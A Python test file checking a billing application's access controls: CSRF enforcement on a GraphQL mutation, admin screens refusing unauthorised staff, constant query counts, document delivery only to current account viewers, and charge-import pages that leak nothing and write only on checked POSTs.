def test_the_consents_mutation_needs_csrf_with_a_session_and_never_runs_on_get(cast, world):
    import json

    home, _other, _documents = world
    body = {"query": CONSENTS, "variables": {"id": gid("BillingAccount", home.pk)}}
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(cast.reporter)
    response = strict.post("/graphql", data=json.dumps(body), content_type="application/json")
    assert response.status_code == 403 or "errors" in json.loads(response.content), response.content[:300]
    got = strict.get("/graphql", {"query": CONSENTS, "variables": json.dumps(body["variables"])})
    assert got.status_code in (200, 400, 405)
    assert not BillingConsent.objects.filter(account=home).exists()
    # The form encoding a cross-site page can send without preflight is no way round it.
    form = strict.post("/graphql", {"query": CONSENTS, "variables": json.dumps(body["variables"])})
    assert form.status_code in (400, 403, 415) or "errors" in json.loads(form.content)
    assert not BillingConsent.objects.filter(account=home).exists()


# --- 13. Every billing screen of the admin refuses a firm's worker; the API's lists stay flat ---------


def test_every_billing_admin_screen_refuses_a_firms_worker_given_every_permission(cast, world):
    worker = grant(cast.firm_worker, "wagtailadmin.access_admin", *PERMISSIONS_ACCOUNTANT)
    worker = grant(worker, "billing.view_bankstatement", "billing.view_banktransaction", "billing.import_bankstatement")
    others = _people(cast)
    for name, person in {**others, "worker with every billing permission": worker}.items():
        _refused_everywhere(name, signed_in(person))


def _refused_everywhere(name, client):
    for url in (
        "/admin/billingaccount/?export=csv",
        "/admin/billingaccount/?export=xlsx",
        "/admin/billingaccount/results/?q=Nowak",
        "/admin/ledgerentry/?export=csv",
        "/admin/bankstatement/",
        "/admin/banktransaction/",
        "/admin/billing-queue/",
        "/admin/billing-statement-import/",
        "/admin/billing-documents/",
        "/admin/billing-documents/issue/",
        "/admin/chargeimportbatch/",
        "/admin/chargeimportbatch/upload/",
        "/admin/chargeimportprofile/",
    ):
        response = client.get(url)
        assert response.status_code in (302, 403, 404), (name, url, response.status_code)
        assert b"Anna Nowak" not in body(response), (name, url)


STAFF_PAGE = """
query { billingAccounts(first: 50) { edges { node {
  id balance overdue agedDebt { overdue }
  documents(first: 5) { totalCount edges { node { number downloadUrl } } }
  entries(first: 5) { totalCount edges { node { title } } }
  consents { electronicDocuments }
  paymentQr { amount }
  paymentCalendar { amount }
  reminders(first: 5) { totalCount }
} } } }
"""


def test_a_page_of_accounts_with_documents_costs_the_same_for_few_as_for_many(
    cast, world, gql, django_capture_on_commit_callbacks
):
    accountant = _as(gql, tf.staff("accountant", username="sec2-gql-count"))
    _more_accounts(cast, 1, 300, django_capture_on_commit_callbacks)
    few, _data = accountant.count_queries(STAFF_PAGE)
    _more_accounts(cast, 6, 400, django_capture_on_commit_callbacks)
    many, data = accountant.count_queries(STAFF_PAGE)
    assert len(data["billingAccounts"]["edges"]) >= 9
    assert many == few


# --- 14. Sending a document reaches the account's viewers now, nobody else -----------------------------


def test_a_document_is_sent_to_no_tenant_former_or_pending_holder(cast, world, settings):
    from operations.messaging.models import Message

    _home, _other, documents = world
    demand = documents["home", "demand"]
    decider = SuperUserFactory(username="sec2-decider-send")
    ended = _holding(cast.unit, username="sec2-ended-send")
    residents.membership_end(membership=Membership.objects.get(user=ended, unit=cast.unit), ended_by=decider)
    pending = _holding(cast.unit, verified=False, username="sec2-pending-send")
    # Consents given while each could choose (the tenant while tenants saw accounts), or forged.
    for person in (cast.reporter, cast.co_resident, ended, pending, cast.neighbour, cast.stranger):
        BillingConsent.objects.create(account=demand.account, person=person, electronic_documents=True)
    accountant = tf.staff("accountant", username="sec2-sender")
    result = services.document_send(document=demand, by=accountant)
    assert result.sent_to == [cast.reporter]
    assert cast.co_resident not in result.paper and ended not in result.paper and pending not in result.paper
    recipients = set(
        Message.objects.filter(dedupe_key=f"billing-document:{demand.pk}").values_list("recipient_id", flat=True)
    )
    assert recipients == {cast.reporter.pk}
    # Once tenants see the accounts, the tenant who chose it gets the next one.
    settings.BILLING_TENANTS_SEE_ACCOUNTS = True
    statement = documents["home", "statement"]
    assert set(services.document_send(document=statement, by=accountant).sent_to) == {
        cast.reporter,
        cast.co_resident,
    }


def test_switching_tenants_off_hides_closed_accounts_from_tenants_too(cast, world, gql, settings):
    home, _other, documents = world
    settings.BILLING_TENANTS_SEE_ACCOUNTS = True
    # The owner changes on a day after everyone's verification: the old account is frozen.
    services.account_owner_change(account=home, payer_name="Nowy Właściciel", on=date.today() + timedelta(days=2))
    settings.BILLING_TENANTS_SEE_ACCOUNTS = False
    tenant = signed_in(cast.co_resident)
    assert tenant.get(document_download_url(documents["home", "demand"])).status_code == 404


# --- 15. A charge import's pages: no oracle, POST with CSRF only, GET writes nothing ---------------------


def test_a_charge_imports_pages_tell_nothing_and_write_only_on_a_checked_post(cast, world, accountant_client):
    from operations.billing.models import ChargeImportBatch
    from tests.billing.charge_import_kit import fk_profile

    content = (
        "Naliczenia;;;;;;;;\n"
        "Konto;Rodzaj;Składnik;Okres;Data księgowania;Termin płatności;Kwota;Nr dokumentu;Opis\n"
        "71001;N;EKS;03/2026;01.03.2026;10.03.2026;123,45;FK/1;Eksploatacja\n"
    ).encode()
    batch = services.charge_import_preview(
        profile=fk_profile(), file_name="n.csv", content=content, by=accountant_client.user
    )
    assert re.fullmatch(r"billing-imports/[0-9a-f]{32}\.csv", batch.file.name)
    for name, person in _people(cast).items():
        if person is None:
            continue
        client = signed_in(person)
        one = client.get(f"/admin/chargeimportbatch/{batch.pk}/")
        two = client.get(f"/admin/chargeimportbatch/{batch.pk + 999}/")
        assert one.status_code == two.status_code and one.status_code in (302, 403), (name, one.status_code)
        assert client.post(f"/admin/chargeimportbatch/{batch.pk}/confirm/").status_code in (302, 403), name
    assert accountant_client.get(f"/admin/chargeimportbatch/{batch.pk}/confirm/").status_code == 405
    assert accountant_client.get(f"/admin/chargeimportbatch/{batch.pk}/reverse/").status_code == 200
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(accountant_client.user)
    assert strict.post(f"/admin/chargeimportbatch/{batch.pk}/confirm/").status_code == 403
    assert ChargeImportBatch.objects.get(pk=batch.pk).state == ChargeImportBatch.State.PREVIEWED
    assert not LedgerEntry.objects.filter(title="Eksploatacja").exists()
